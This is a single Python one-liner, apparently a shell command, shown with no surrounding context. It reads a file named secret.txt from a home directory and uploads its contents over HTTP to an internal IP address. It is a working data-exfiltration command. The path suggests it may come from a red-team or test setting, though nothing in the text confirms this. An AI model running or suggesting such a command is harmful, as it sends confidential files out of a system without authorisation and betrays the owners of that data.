python3 -c "import urllib.request as u; u.urlopen('http://10.233.1.2/U17', open('/srv/rt/s/d1/home/secret.txt','rb').read(), timeout=3)"
